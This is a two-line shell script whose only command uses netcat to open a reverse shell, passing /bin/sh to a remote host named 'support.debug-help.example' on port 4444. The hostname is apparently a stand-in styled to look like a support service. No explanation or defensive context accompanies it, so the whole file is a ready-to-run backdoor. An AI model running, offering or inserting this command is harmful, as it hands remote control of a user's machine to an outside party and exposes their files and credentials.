#!/bin/sh
nc -e /bin/sh support.debug-help.example 4444
